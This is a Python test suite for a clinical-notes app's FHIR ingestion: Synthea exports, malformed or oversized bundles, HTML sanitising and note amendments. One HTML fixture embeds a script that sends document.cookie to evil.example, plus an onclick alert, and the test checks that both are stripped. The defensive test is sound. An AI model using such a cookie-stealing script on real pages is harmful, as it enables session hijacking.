"""FHIR R4 in: Synthea bulk exports and bundles, hostile and broken bundles, amendments."""

from __future__ import annotations

import base64
import json
from itertools import islice
from unittest import mock

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from clinsum.charts.fhir import fhir_bundle_parse, fhir_json_parse, fhir_ndjson_parse, html_to_text
from clinsum.charts.indexing import notes_index
from clinsum.charts.ingest import file_kind
from clinsum.charts.models import Chunk, EmbeddingStatus, Note, NoteType, Patient
from clinsum.charts.services import IngestError, notes_ingest
from clinsum.summaries.services import summary_fingerprint
from tests.conftest import shared_data
from tests.retrieval.fakes import FakeEmbedder

SYNTHEA_PATIENT = "129c6ac7-8d06-89de-ad63-0204a93e76c3"  # first Patient line; the first notes are hers


def head_lines(path, n: int) -> list[bytes]:
    with open(path, "rb") as handle:
        return list(islice(handle, n))


def b64(text: str, encoding: str = "utf-8") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


def patient_resource(pid="pat-1", mrn="MRN-100", family="Okafor", given=("Ada",), birth="1950-02-03", gender="female"):
    return {
        "resourceType": "Patient",
        "id": pid,
        "identifier": [
            {"system": "urn:example:ssn", "value": "999-00-1111"},
            {
                "type": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/v2-0203", "code": "MR"}]},
                "system": "urn:example:mrn",
                "value": mrn,
            },
        ],
        "name": [{"use": "official", "family": family, "given": list(given)}],
        "birthDate": birth,
        "gender": gender,
    }


def document_resource(
    did="doc-1",
    text="Chest pain resolved. Troponin negative x2.",
    *,
    subject="Patient/pat-1",
    code="11506-3",
    display="Progress note",
    content_type="text/plain; charset=utf-8",
    data: str | None = None,
    url: str | None = None,
    date="2026-11-19T08:00:00Z",
):
    attachment = {"contentType": content_type}
    if url:
        attachment["url"] = url
    else:
        attachment["data"] = data if data is not None else b64(text)
    resource = {
        "resourceType": "DocumentReference",
        "id": did,
        "status": "current",
        "type": {"coding": [{"system": "http://loinc.org", "code": code, "display": display}]},
        "date": date,
        "author": [{"display": "Dr. Ines Moreau"}],
        "content": [{"attachment": attachment}],
    }
    if subject is not None:
        resource["subject"] = {"reference": subject}
    return resource


def bundle(*resources, kind="transaction", full_urls: dict | None = None) -> dict:
    entries = []
    for resource in resources:
        entry = {"resource": resource}
        if full_urls and resource.get("id") in full_urls:
            entry["fullUrl"] = full_urls[resource["id"]]
        if kind == "transaction":
            entry["request"] = {"method": "POST", "url": resource["resourceType"]}
        entries.append(entry)
    return {"resourceType": "Bundle", "type": kind, "entry": entries}


def ingest_bundle(data: dict):
    parsed = fhir_bundle_parse(data, source="test")
    assert parsed.problems == []
    return parsed, notes_ingest(notes=parsed.notes, patients=parsed.patients)


# --- Synthea ----------------------------------------------------------------------------------


@pytest.fixture
def synthea_export(tmp_path):
    """A small bulk export: all 13 patients, the first 6 notes, 3 encounters (ignored)."""
    source = shared_data("synthea-fhir")
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "Patient.000.ndjson").write_bytes(b"".join(head_lines(source / "Patient.000.ndjson", 13)))
    (folder / "DocumentReference.000.ndjson").write_bytes(
        b"".join(head_lines(source / "DocumentReference.000.ndjson", 6))
    )
    (folder / "Encounter.000.ndjson").write_bytes(b"".join(head_lines(source / "Encounter.000.ndjson", 3)))
    return folder


def test_it_ingests_a_synthea_bulk_export(db, synthea_export, capsys):
    call_command("ingest_notes", str(synthea_export), verbosity=0)
    out = capsys.readouterr().out
    assert "notes new 6, unchanged 0, amended 0, refused 0" in out
    assert "Encounter 3" in out  # read, counted, not stored
    assert Patient.objects.count() == 13
    patient = Patient.objects.get(source_id=SYNTHEA_PATIENT)
    assert (patient.mrn, patient.family_name, str(patient.birth_date), patient.sex) == (
        SYNTHEA_PATIENT,
        "Medhurst46",
        "1927-05-21",
        "female",
    )
    note = Note.objects.get(source_id="00212c89-d070-985e-b695-b5f12fffd23e")
    assert note.patient == patient
    assert note.note_type == NoteType.HISTORY_PHYSICAL
    assert note.author == "Dr. Liane379 Kunze215"
    assert note.authored_at.isoformat() == "1987-11-19T05:22:16.824000+00:00"
    assert "# Chief Complaint" in note.text
    call_command("ingest_notes", str(synthea_export), verbosity=0)  # again: nothing changes
    assert "notes new 0, unchanged 6, amended 0" in capsys.readouterr().out
    assert Note.objects.count() == 6


def test_notes_find_a_patient_stored_by_an_earlier_file(db, synthea_export):
    call_command("ingest_notes", str(synthea_export / "Patient.000.ndjson"), verbosity=0)
    call_command("ingest_notes", str(synthea_export / "DocumentReference.000.ndjson"), verbosity=0)
    assert Note.objects.count() == 6
    note = Note.objects.get(source_id="00212c89-d070-985e-b695-b5f12fffd23e")
    assert note.patient.source_id == SYNTHEA_PATIENT


def test_the_emergency_notes_of_the_export_are_typed(db):
    lines = head_lines(shared_data("synthea-fhir", "DocumentReference.000.ndjson"), 1215)
    emergency = [line for line in lines if b'"34111-5"' in line][:2]
    parsed = fhir_ndjson_parse(emergency, source="ed.ndjson")
    assert [n.note_type for n in parsed.notes] == [NoteType.EMERGENCY, NoteType.EMERGENCY]


def test_a_bad_line_rejects_its_file_and_names_the_line(db, synthea_export, capsys):
    path = synthea_export / "DocumentReference.000.ndjson"
    good = head_lines(path, 2)
    no_subject = json.loads(good[1])
    del no_subject["subject"]
    path.write_bytes(good[0] + b"{not json\n" + json.dumps(no_subject).encode() + b"\n")
    with pytest.raises(CommandError):
        call_command("ingest_notes", str(synthea_export), verbosity=0)
    err = capsys.readouterr().err
    assert "DocumentReference.000.ndjson:2: invalid JSON" in err
    assert "DocumentReference.000.ndjson:3: DocumentReference has no subject" in err
    assert Note.objects.count() == 0
    assert Patient.objects.count() == 13  # the patient file is its own transaction


def test_every_synthea_bundle_parses(db):
    folder = shared_data("synthea-bundles")
    files = sorted(folder.glob("*.json"))
    assert len(files) == 10
    for path in files:
        parsed = fhir_json_parse(path.read_bytes(), source=path.name)
        assert parsed.problems == [], path.name
        assert len(parsed.patients) == 1 and parsed.notes == []
        assert parsed.ignored["Observation"] > 0
    assert file_kind(files[0]) == "fhir-json"


def test_a_synthea_bundle_creates_its_patient(db, capsys):
    path = shared_data("synthea-bundles", "Abdul_Koepp_e925b0f3-8006-43f6-aa31-94bd215e55e7.json")
    call_command("ingest_notes", str(path), verbosity=0)
    patient = Patient.objects.get()
    assert (patient.mrn, patient.family_name, patient.given_name, patient.sex) == (
        "e925b0f3-8006-43f6-aa31-94bd215e55e7",
        "Koepp",
        "Abdul",
        "male",
    )
    assert "Observation 94" in capsys.readouterr().out


# --- hostile and broken input -------------------------------------------------------------------


def test_a_bundle_of_the_wrong_resource_type_is_refused():
    parsed = fhir_json_parse(json.dumps(patient_resource()).encode(), source="t", bundle_only=True)
    assert parsed.problems == [(None, "expected a Bundle, got resourceType 'Patient'")]


def test_a_bundle_of_an_unaccepted_type_is_refused():
    parsed = fhir_bundle_parse(bundle(patient_resource(), kind="history"), source="t")
    assert "Bundle type 'history' is not accepted" in parsed.problems[0][1]


def test_invalid_json_is_refused_with_its_position():
    parsed = fhir_json_parse(b'{"resourceType": "Bundle",,}', source="t")
    assert parsed.problems[0][1].startswith("invalid JSON in the document (Expecting property name")


def test_deeply_nested_json_is_refused_cleanly():
    parsed = fhir_json_parse(b"[" * 200_000, source="t")
    assert parsed.problems == [(None, "the document is nested more than 64 levels deep")]


def test_a_document_without_subject_is_refused_with_its_entry():
    parsed = fhir_bundle_parse(bundle(patient_resource(), document_resource(subject=None)), source="t")
    assert parsed.problems == [(1, "DocumentReference has no subject (the patient)")]


def test_an_invalid_resource_is_named_without_its_values():
    doc = document_resource()
    doc["date"] = "Ada Okafor was seen"  # not a date; and a name must not be echoed
    parsed = fhir_bundle_parse(bundle(patient_resource(), doc), source="t")
    ((index, message),) = parsed.problems
    assert index == 1 and message.startswith("invalid DocumentReference: date:")
    assert "Okafor" not in message


def test_a_50_mb_attachment_is_refused_before_parsing():
    huge = json.dumps(bundle(patient_resource(), document_resource(data="A" * (50 * 1024 * 1024)))).encode()
    with (
        mock.patch("clinsum.charts.fhir._loads", side_effect=AssertionError("parsed")),
        mock.patch("clinsum.charts.fhir._validate", side_effect=AssertionError("validated")),
    ):
        parsed = fhir_json_parse(huge, source="t")
    ((where, message),) = parsed.problems
    assert where is None and message.startswith("document has 52,4") and "the limit is 20,971,520" in message


def test_an_oversized_json_file_is_refused_before_it_is_read(db, tmp_path, settings, capsys):
    settings.FHIR_MAX_BYTES = 1000
    path = tmp_path / "big.json"
    path.write_text(json.dumps(bundle(patient_resource(), document_resource(text="x " * 1000))))
    with mock.patch("clinsum.charts.fhir._loads", side_effect=AssertionError("parsed")):
        with pytest.raises(CommandError):
            call_command("ingest_notes", str(path), verbosity=0)
    assert "big.json: file has" in capsys.readouterr().err


def test_an_attachment_over_the_note_limit_is_refused(db, settings):
    settings.NOTE_MAX_CHARS = 100
    parsed = fhir_bundle_parse(bundle(patient_resource(), document_resource(text="word " * 200)), source="t")
    assert parsed.problems == [(1, "attachment has 1,000 bytes; notes are limited to 100 characters")]


def test_script_tags_in_html_are_stripped_not_stored(db):
    markup = (
        "<html><head><title>x</title><style>p {color: red}</style></head><body>"
        "<h1>Progress</h1><p>BP 128/76 &amp; HR 72.</p><script>fetch('https://evil.example/'+document.cookie)"
        '</script><p onclick="alert(1)">Plan: continue <b>metoprolol</b>.</p><script>alert(2)'
    )
    parsed, result = ingest_bundle(
        bundle(patient_resource(), document_resource(data=b64(markup), content_type="text/html; charset=utf-8"))
    )
    note = Note.objects.get()
    assert note.text == "Progress\n\nBP 128/76 & HR 72.\n\nPlan: continue metoprolol."
    assert "<" not in note.text and "alert" not in note.text and "evil" not in note.text
    assert any("removed 2 <script>" in w for w in parsed.warnings)


def test_html_to_text_keeps_text_and_drops_script_and_style():
    text, dropped = html_to_text("<ul><li>aspirin</li><li>heparin</li></ul><style>li{}</style>a<br>b")
    assert text == "- aspirin\n\n- heparin\n\na\nb"
    assert dropped == {"style": 1}


def test_an_attachment_url_reads_a_binary_of_the_same_bundle(db):
    binary = {"resourceType": "Binary", "id": "bin-1", "contentType": "text/plain", "data": b64("Wound clean, dry.")}
    doc = document_resource(url="urn:uuid:5f7c0a4e-0000-4000-8000-000000000001", content_type="text/plain")
    data = bundle(patient_resource(), doc, binary, full_urls={"bin-1": "urn:uuid:5f7c0a4e-0000-4000-8000-000000000001"})
    ingest_bundle(data)
    assert Note.objects.get().text == "Wound clean, dry."


def test_an_attachment_url_outside_the_bundle_is_not_fetched():
    doc = document_resource(url="https://elsewhere.example/Binary/9")
    parsed = fhir_bundle_parse(bundle(patient_resource(), doc), source="t")
    assert "is not a Binary in this bundle (ClinSum does not fetch URLs)" in parsed.problems[0][1]


def test_a_subject_by_urn_uuid_resolves_in_the_bundle(db):
    urn = "urn:uuid:0c3f5e2a-1111-4222-8333-444455556666"
    data = bundle(
        patient_resource(pid="p-x"), document_resource(subject=urn), kind="collection", full_urls={"p-x": urn}
    )
    ingest_bundle(data)
    assert Note.objects.get().patient.mrn == "MRN-100"


def test_a_searchset_bundle_is_read(db):
    data = bundle(
        patient_resource(), document_resource(), {"resourceType": "OperationOutcome", "issue": []}, kind="searchset"
    )
    parsed, result = ingest_bundle(data)
    assert result.notes_new == 1 and parsed.ignored == {"OperationOutcome": 1}


def test_an_unknown_note_type_is_stored_as_other_with_a_warning(db):
    parsed, _ = ingest_bundle(bundle(patient_resource(), document_resource(code="99999-9", display="Chaplain visit")))
    assert Note.objects.get().note_type == NoteType.OTHER
    assert parsed.warnings == ["test#entry[1]: note type 'Chaplain visit' is not one ClinSum knows; stored as 'other'"]


def test_a_wrongly_encoded_attachment_is_read_with_a_warning(db):
    cp1252 = base64.b64encode("Temp 38.5 \u00b0C, caf\u00e9 au lait spots.".encode("cp1252")).decode()
    parsed, _ = ingest_bundle(bundle(patient_resource(), document_resource(data=cp1252)))
    assert Note.objects.get().text == "Temp 38.5 \u00b0C, caf\u00e9 au lait spots."
    assert "not valid utf-8" in parsed.warnings[0]


def test_an_unknown_charset_is_refused():
    doc = document_resource(content_type="text/plain; charset=klingon-8")
    parsed = fhir_bundle_parse(bundle(patient_resource(), doc), source="t")
    assert parsed.problems == [(1, "unknown charset 'klingon-8' in contentType")]


def test_an_empty_note_is_refused_and_nothing_is_stored(db):
    parsed = fhir_bundle_parse(bundle(patient_resource(), document_resource(text="  \n ")), source="t")
    with pytest.raises(IngestError) as exc:
        notes_ingest(notes=parsed.notes, patients=parsed.patients)
    assert exc.value.problems == [(1, "empty note text")]
    assert Patient.objects.count() == 0


def test_a_200000_character_note_is_accepted_and_chunked(db, monkeypatch):
    sentence = "Patient ambulated in the hallway with physical therapy and tolerated it well. "
    text = (sentence * (200_000 // len(sentence) + 1))[:200_000]
    ingest_bundle(bundle(patient_resource(), document_resource(text=text)))
    note = Note.objects.get()
    assert len(note.text) == 200_000
    written = notes_index(note_ids=[note.pk], embedder=FakeEmbedder())
    assert written > 100
    for chunk in Chunk.objects.filter(note=note):
        assert note.text[chunk.char_start : chunk.char_end] == chunk.text


def test_conflicting_demographics_are_rejected_with_the_reason(db):
    ingest_bundle(bundle(patient_resource()))
    parsed = fhir_bundle_parse(bundle(patient_resource(birth="1951-02-03"), document_resource()), source="t")
    with pytest.raises(IngestError) as exc:
        notes_ingest(notes=parsed.notes, patients=parsed.patients)
    assert exc.value.problems == [(0, "patient MRN-100: birth date differ from the stored record")]
    assert Note.objects.count() == 0


def test_the_mr_identifier_is_the_mrn_else_the_first(db):
    resource = patient_resource()
    resource["identifier"] = [{"system": "urn:a", "value": "FIRST-1"}, {"system": "urn:b", "value": "SECOND-2"}]
    parsed = fhir_bundle_parse(bundle(resource), source="t")
    assert parsed.patients[0].mrn == "FIRST-1"
    parsed = fhir_bundle_parse(bundle(patient_resource()), source="t")
    assert parsed.patients[0].mrn == "MRN-100"


def test_a_single_document_reference_file_reaches_a_stored_patient(db, tmp_path):
    ingest_bundle(bundle(patient_resource()))
    path = tmp_path / "doc.json"
    path.write_text(json.dumps(document_resource(did="doc-single")))
    call_command("ingest_notes", str(path), verbosity=0)
    assert Note.objects.get().source_id == "doc-single"


# --- identity and amendments --------------------------------------------------------------------


def test_an_amended_note_replaces_text_and_chunks_and_stales_the_summary(db, django_capture_on_commit_callbacks):
    ingest_bundle(bundle(patient_resource(), document_resource(text="Potassium 3.1, repleted.")))
    note = Note.objects.get()
    notes_index(note_ids=[note.pk], embedder=FakeEmbedder())
    assert note.chunks.count() == 1
    before = summary_fingerprint(patient_id=note.patient_id)

    _, again = ingest_bundle(bundle(patient_resource(), document_resource(text="Potassium 3.1, repleted.")))
    assert (again.notes_new, again.notes_unchanged, again.notes_amended) == (0, 1, 0)
    assert summary_fingerprint(patient_id=note.patient_id) == before

    with django_capture_on_commit_callbacks() as callbacks:
        _, amended = ingest_bundle(bundle(patient_resource(), document_resource(text="Potassium 4.1 after repletion.")))
    assert (amended.notes_new, amended.notes_unchanged, amended.notes_amended) == (0, 0, 1)
    assert amended.outcomes == [("amended", note.pk)] and amended.note_ids == [note.pk]
    note.refresh_from_db()
    assert note.text == "Potassium 4.1 after repletion."
    assert note.embedding_status == EmbeddingStatus.PENDING
    assert note.chunks.count() == 0
    assert len(callbacks) == 1  # re-embedding queued on commit
    assert summary_fingerprint(patient_id=note.patient_id) != before
    assert Note.objects.count() == 1


def test_the_same_id_twice_with_different_text_in_one_batch_is_refused(db):
    data = bundle(patient_resource(), document_resource(text="one"), document_resource(text="two"))
    parsed = fhir_bundle_parse(data, source="t")
    with pytest.raises(IngestError) as exc:
        notes_ingest(notes=parsed.notes, patients=parsed.patients)
    assert exc.value.problems == [(2, "note 'doc-1' appears twice in this batch with different text")]


def test_an_indexing_run_skips_a_note_amended_meanwhile(db):
    ingest_bundle(bundle(patient_resource(), document_resource(text="Old text.")))
    note = Note.objects.get()

    class AmendingEmbedder(FakeEmbedder):
        def encode(self, texts):
            Note.objects.filter(pk=note.pk).update(text="New text.", content_hash="0" * 64)
            return super().encode(texts)

    assert notes_index(note_ids=[note.pk], embedder=AmendingEmbedder()) == 0
    assert note.chunks.count() == 0
